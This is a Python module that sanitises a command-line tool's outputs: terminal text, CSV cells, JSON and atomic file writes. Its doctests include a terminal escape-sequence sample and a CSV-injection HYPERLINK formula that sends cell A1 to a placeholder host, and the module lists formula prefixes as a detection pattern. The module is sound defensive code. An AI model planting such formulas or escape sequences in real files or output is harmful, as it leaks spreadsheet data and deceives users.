"""Outputs that cannot hurt: text safe for a terminal, CSV cells that are never formulas, JSON
that is JSON, and files that are either written whole or not at all.

Used by the command line for everything it prints and writes.

- :func:`printable` strips control characters (``ESC``, so no ANSI or OSC sequence reaches a
  terminal; ``BEL``, backspace, carriage return, the C1 controls, and the bidirectional overrides
  that can make text read differently from what it is), keeping newlines and tabs.
- :func:`neutralise_formulas` applies OWASP's rule for CSV injection: a text cell beginning with
  ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front, so a
  spreadsheet shows it as text instead of running it as a formula. Numeric columns stay numbers,
  and so does text that is a plain number (``-3.5``).
- :func:`json_text` writes non-finite numbers as ``null`` (``NaN`` and ``Infinity`` are not
  JSON), escaping what a terminal or a narrow console encoding cannot show.
- :func:`write_atomically` writes to a temporary file beside the target and renames it over the
  target only when the writing succeeded: an error or Ctrl-C leaves the target as it was.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import math
import os
import re
import secrets
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any, TextIO

import polars as pl

from .errors import DataError

__all__ = [
    "FORMULA_PREFIXES",
    "SafeStream",
    "codec_name",
    "json_text",
    "neutralise_formulas",
    "printable",
    "refuse_inputs",
    "write_atomically",
]

#: A text cell starting with one of these is a formula (or starts one) when a spreadsheet opens
#: the CSV (OWASP, "CSV Injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# Unicode's control characters (category Cc: C0, DEL, C1) but newline and tab, and the
# bidirectional embeddings, overrides and isolates, which reorder what a reader sees
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_NUMBER = r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
_THOUSANDS = r"[+-]?[0-9]{1,3}(?:,[0-9]{3})+(?:\.[0-9]+)?"
_PLAIN_NUMBER = f"^(?:{_NUMBER}|{_THOUSANDS})$"
_LOSSLESS = {"utf-8", "utf-16", "utf-32"}


def printable(text: str) -> str:
    r"""``text`` without control characters (newlines and tabs kept).

    Removed: the C0 and C1 controls (``ESC``, so no ANSI or OSC sequence reaches a terminal;
    ``BEL``, backspace, carriage return), ``DEL``, and the bidirectional embeddings, overrides and
    isolates that can make text read differently from what it is.

    Parameters
    ----------
    text
        Any text.

    Returns
    -------
    str
        The text, safe to print.

    Examples
    --------
    >>> printable("Title\x1b[2J\x1b]0;owned\x07 ok\n")
    'Title[2J]0;owned ok\n'
    """
    return _CONTROL.sub("", text)


class SafeStream(io.TextIOBase):
    r"""A text stream that passes on only :func:`printable` text, in what the stream can encode.

    Characters the underlying stream's encoding cannot hold (a ``cp1252`` console) are replaced
    by ``?`` instead of raising :class:`UnicodeEncodeError`.

    Parameters
    ----------
    raw
        The stream wrapped (``sys.stdout``), kept as ``raw`` for a progress bar that needs its
        carriage return; its encoding (UTF-8 when it has none) decides what passes.

    Examples
    --------
    >>> import io
    >>> buffer = io.StringIO()
    >>> stream = SafeStream(buffer)
    >>> stream.write("ok\x1b[2J\n")
    7
    >>> buffer.getvalue()
    'ok[2J\n'
    """

    def __init__(self, raw: TextIO) -> None:
        super().__init__()
        self.raw = raw
        encoding = getattr(raw, "encoding", None) or "utf-8"
        self._encoding = encoding
        self._lossless = codec_name(encoding) in _LOSSLESS

    @property
    def encoding(self) -> str:  # type: ignore[override]
        """The encoding of the stream wrapped (``"utf-8"`` when it has none)."""
        return self._encoding

    def writable(self) -> bool:
        """Always writable.

        Returns
        -------
        bool
            True.
        """
        return True

    def write(self, text: str) -> int:
        """Write ``text`` without control characters, in what the stream can encode.

        Parameters
        ----------
        text
            The text.

        Returns
        -------
        int
            The length of ``text`` as given (what was asked to be written).
        """
        clean = printable(text)
        if not self._lossless:
            clean = clean.encode(self._encoding, errors="replace").decode(self._encoding)
        self.raw.write(clean)
        return len(text)

    def flush(self) -> None:
        """Flush the stream wrapped, unless it is closed."""
        if not self.raw.closed:
            self.raw.flush()

    def isatty(self) -> bool:
        """Whether the stream wrapped is a terminal.

        Returns
        -------
        bool
            The wrapped stream's answer.
        """
        return self.raw.isatty()

    def fileno(self) -> int:
        """The file descriptor of the stream wrapped.

        Returns
        -------
        int
            The wrapped stream's descriptor.

        Raises
        ------
        io.UnsupportedOperation
            The stream wrapped has none (a ``StringIO``).
        """
        return self.raw.fileno()

    def close(self) -> None:
        """Close this wrapper only: the stream it wraps belongs to its owner."""
        if not self.closed:
            try:
                self.flush()
            finally:
                super().close()


def codec_name(encoding: str) -> str:
    """The codec's canonical name (``"utf-8"``, ``"cp1252"``), or ``encoding`` if Python has none.

    Parameters
    ----------
    encoding
        An encoding's name, in any spelling Python knows.

    Returns
    -------
    str
        The canonical name.

    Examples
    --------
    >>> codec_name("UTF8"), codec_name("latin-1"), codec_name("no-such-codec")
    ('utf-8', 'iso8859-1', 'no-such-codec')
    """
    import codecs

    try:
        return codecs.lookup(encoding).name
    except LookupError:
        return encoding


def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    r"""``frame`` with every text cell a spreadsheet would read as a formula prefixed with ``'``.

    A cell is neutralised when it begins (after any spaces) with ``=``, ``+``, ``-``, ``@``, a tab
    or a carriage return and is not a plain number (``-12.5``, ``+3``, ``1e-3`` stay as they are);
    a lone ``-`` (DfE's "no figure") is text a spreadsheet shows as it is and stays too (OWASP's
    rule for CSV injection).

    Parameters
    ----------
    frame
        The frame to write.

    Returns
    -------
    polars.DataFrame
        Only text columns change (categorical ones become text); numbers, dates and booleans are
        as they were.

    Examples
    --------
    >>> frame = pl.DataFrame({"note": ['=HYPERLINK("http://x/?"&A1,"y")', "-3.5", "ok"], "n": [-1, 2, 3]})
    >>> neutralise_formulas(frame).rows()
    [('\'=HYPERLINK("http://x/?"&A1,"y")', -1), ('-3.5', 2), ('ok', 3)]
    """
    text = [
        name
        for name, dtype in frame.schema.items()
        if dtype == pl.String or isinstance(dtype, pl.Categorical | pl.Enum)
    ]
    if not text:
        return frame

    def safe(name: str) -> pl.Expr:
        cell = pl.col(name).cast(pl.String)
        trimmed = cell.str.strip_chars(" ")
        risky = (
            cell.str.strip_chars_start(" ").str.slice(0, 1).is_in(FORMULA_PREFIXES)
            & ~trimmed.str.contains(_PLAIN_NUMBER)
            & (trimmed != "-")
        )
        return pl.when(risky.fill_null(False)).then(pl.lit("'") + cell).otherwise(cell).alias(name)

    return frame.with_columns(safe(name) for name in text)


def _finite(value: Any) -> Any:
    if isinstance(value, float) and not math.isfinite(value):
        return None
    if isinstance(value, dict):
        return {k: _finite(v) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [_finite(v) for v in value]
    return value


def _default(value: object) -> object:
    if isinstance(value, dt.date | dt.datetime | dt.time | dt.timedelta):
        return str(value)
    return str(value)


def json_text(data: object, *, indent: int | None = 2, encoding: str = "utf-8") -> str:
    r"""``data`` as JSON text: NaN and infinities as ``null``, dates and the like as text.

    Characters are kept as they are where ``encoding`` holds them; control characters (which a
    terminal would act on) and any character ``encoding`` cannot hold are written as JSON
    ``\u`` escapes (four hex digits each), so the text is valid JSON, loses nothing, and is
    safe to print.

    Parameters
    ----------
    data
        Plain data: dicts, lists, numbers, text, dates.
    indent
        As for :func:`json.dumps`; None for one line.
    encoding
        The encoding the text will be written in.

    Returns
    -------
    str
        The JSON text.

    Examples
    --------
    >>> json_text({"v": float("nan"), "t": "caf\u00e9 \x1b[2J"}, indent=None, encoding="ascii")
    '{"v": null, "t": "caf\\u00e9 \\u001b[2J"}'
    """
    text = json.dumps(
        _finite(data), indent=indent, ensure_ascii=False, allow_nan=False, default=_default
    )
    text = _CONTROL.sub(lambda m: _escape(m[0]), text)  # only inside strings: JSON's own are ASCII
    if codec_name(encoding) in _LOSSLESS or text.isascii():
        return text
    return "".join(ch if ch.isascii() or _encodes(ch, encoding) else _escape(ch) for ch in text)


def _encodes(ch: str, encoding: str) -> bool:
    try:
        ch.encode(encoding)
    except UnicodeEncodeError:
        return False
    return True


def _escape(ch: str) -> str:
    code = ord(ch)
    if code > 0xFFFF:  # JSON escapes astral characters as a surrogate pair
        code -= 0x10000
        return f"\\u{0xD800 + (code >> 10):04x}\\u{0xDC00 + (code & 0x3FF):04x}"
    return f"\\u{code:04x}"


def _same(a: Path, b: Path) -> bool:
    try:
        return os.path.samefile(a, b)
    except OSError:
        return os.path.realpath(a) == os.path.realpath(b)


def _inside(path: Path, folder: Path) -> bool:
    real = Path(os.path.realpath(path))
    top = Path(os.path.realpath(folder))
    return real == top or top in real.parents


def refuse_inputs(output: str | Path, inputs: Iterable[tuple[str, str | Path]]) -> None:
    """Refuse an ``output`` that is one of the ``inputs`` or inside an input folder.

    Links and hard links are followed, so another name for an input is refused too.

    Parameters
    ----------
    output
        The file about to be written.
    inputs
        ``(option, path)`` pairs (``("--input", "counts.csv")``), named in the error.

    Raises
    ------
    DataError
        ``output`` is an input file, or inside an input folder (where the next run would read it).

    Examples
    --------
    >>> import tempfile
    >>> from pathlib import Path
    >>> with tempfile.TemporaryDirectory() as folder:
    ...     try:
    ...         refuse_inputs(Path(folder) / "out.csv", [("--input", folder)])
    ...     except DataError as err:
    ...         print("refused:", "inside the --input folder" in str(err))
    refused: True
    """
    target = Path(output)
    for option, given in inputs:
        path = Path(given)
        if path.is_dir():
            if _inside(target, path):
                msg = (
                    f"{str(output)!r} is inside the {option} folder {str(given)!r}; "
                    "write outputs elsewhere, where the next run will not read them"
                )
                raise DataError(msg)
        elif path.exists() and target.exists() and _same(target, path):
            msg = f"{str(output)!r} is the {option} file: writing it would overwrite the input"
            raise DataError(msg)


def write_atomically(target: str | Path, write: Callable[[Path], object]) -> Path:
    """Call ``write(temporary)`` and rename the temporary file to ``target`` once it returns.

    The temporary file is created beside the target (so the rename is atomic, on the same file
    system) with the permissions a new file would have (a replaced file's are kept); on any error
    or interruption (:class:`KeyboardInterrupt` included) it is removed and the target is
    untouched. A link is followed: the file it points to is replaced.

    Parameters
    ----------
    target
        The file to write.
    write
        Writes the whole output to the path it is given.

    Returns
    -------
    pathlib.Path
        ``target``, as given.

    Raises
    ------
    DataError
        A target that is a folder, or whose folder does not exist.

    Examples
    --------
    >>> import tempfile
    >>> from pathlib import Path
    >>> with tempfile.TemporaryDirectory() as folder:
    ...     out = write_atomically(Path(folder) / "out.txt", lambda tmp: tmp.write_text("done"))
    ...     print(out.name, out.read_text(), sorted(p.name for p in Path(folder).iterdir()))
    out.txt done ['out.txt']
    """
    given = Path(target)
    path = Path(os.path.realpath(given)) if given.is_symlink() else given
    if path.is_dir():
        msg = f"cannot write {str(given)!r}: it is a folder"
        raise DataError(msg)
    folder = path.parent
    if not folder.is_dir():
        msg = f"cannot write {str(given)!r}: folder {str(folder)!r} does not exist"
        raise DataError(msg)
    while True:  # a new file, with the permissions a new file gets (the umask applies)
        temporary = folder / f".{path.name}.{secrets.token_hex(4)}.part"
        try:
            fd = os.open(temporary, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666)
        except FileExistsError:
            continue
        os.close(fd)
        break
    try:
        if path.exists():  # keep the permissions of the file replaced
            os.chmod(temporary, path.stat().st_mode & 0o7777)
        write(temporary)
        os.replace(temporary, path)
    except BaseException:
        temporary.unlink(missing_ok=True)
        raise
    return given
